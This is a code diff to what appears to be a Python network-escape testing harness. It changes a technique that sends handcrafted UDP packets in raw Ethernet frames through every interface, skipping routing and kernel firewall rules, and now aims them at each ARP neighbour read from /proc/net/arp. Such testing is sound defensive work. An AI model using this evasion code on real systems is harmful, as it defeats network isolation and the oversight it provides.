@@ -164,19 +164,22 @@ def _borrowed(attack: Attack, datagram: bytes, source: str) -> str:
 
 @technique(PLACES)
 def frames(attack: Attack) -> Iterator[Try]:
-    """Ethernet frames of our own making: to everybody, past routes and past the kernel's own rules."""
+    """Ethernet frames of our own making, to everybody and to each neighbour: past routes and the kernel's own rules."""
     datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
     packet = _ip_head(attack, len(datagram), 0, attack.world.proxy[0]) + datagram
-    for _, name in socket.if_nameindex():
-        if name != "lo":
-            yield attack.tries(name, lambda name=name: _frame(name, packet))
-    yield Try("every interface")
+    # Address, type, flags, hardware address, mask, device (proc_net(5)).
+    known = [line.split() for line in Path("/proc/net/arp").read_text().splitlines()[1:]]
+    targets = {(name, "ff:ff:ff:ff:ff:ff") for _, name in socket.if_nameindex() if name != "lo"}
+    for name, hardware in sorted(targets | {(entry[5], entry[3]) for entry in known}):
+        yield attack.tries(f"{hardware} on {name}", lambda name=name, to=hardware: _frame(name, to, packet))
+    yield Try("every one of them")
 
 
-def _frame(interface: str, packet: bytes) -> str:
+def _frame(interface: str, to: str, packet: bytes) -> str:
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
         sock.bind((interface, 0x0800))
-        sock.send(b"\xff" * 6 + b"\x02\x00\x00\x00\x00\x07" + b"\x08\x00" + packet)
+        own = sock.getsockname()[4]
+        sock.send(bytes.fromhex(to.replace(":", "")) + own + b"\x08\x00" + packet)
     return ""
 
 
